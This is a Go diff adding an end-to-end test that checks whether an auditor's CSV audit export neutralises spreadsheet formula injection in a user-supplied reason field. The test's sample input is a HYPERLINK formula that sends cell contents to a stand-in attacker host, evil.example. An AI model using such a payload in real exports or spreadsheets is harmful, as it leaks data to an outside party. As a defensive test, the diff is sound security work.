@@ -1,6 +1,8 @@
 package httpapi
 
 import (
+	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"net/http"
 	"strings"
@@ -43,4 +45,36 @@ func problemNames(p Problem, field string) bool {
 		}
 	}
 	return strings.Contains(p.Detail, field)
+}
+
+// Issue 12 item 9 end to end: a grantee's reason reaches the auditor's
+// CSV audit trail, and must not start a formula there.
+func TestAuditCSVNeutralisesFormulas(t *testing.T) {
+	f := newFixture(t, fixtureOpts{})
+	reason := `=HYPERLINK("http://evil.example/?leak="&A1,"Open")`
+	env := spending(agOwn, "5.00")
+	env.Reason = reason
+	if st, b, _ := f.do("POST", "/v1/commands", f.tok["grantee"], env); st != http.StatusCreated {
+		t.Fatalf("spending: %d %s", st, b)
+	}
+	st, b, _ := f.do("GET", "/v1/reports/audit?format=csv", f.tok["auditor"], nil)
+	if st != http.StatusOK {
+		t.Fatalf("audit csv: %d %s", st, b)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
+	if err != nil {
+		t.Fatalf("audit csv: %v\n%s", err, b)
+	}
+	found := false
+	for _, r := range recs {
+		for _, c := range r {
+			if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
+				t.Errorf("cell %q begins a formula", c)
+			}
+			found = found || c == "'"+reason
+		}
+	}
+	if !found {
+		t.Errorf("the reason is not in the audit CSV as %q:\n%s", "'"+reason, b)
+	}
 }
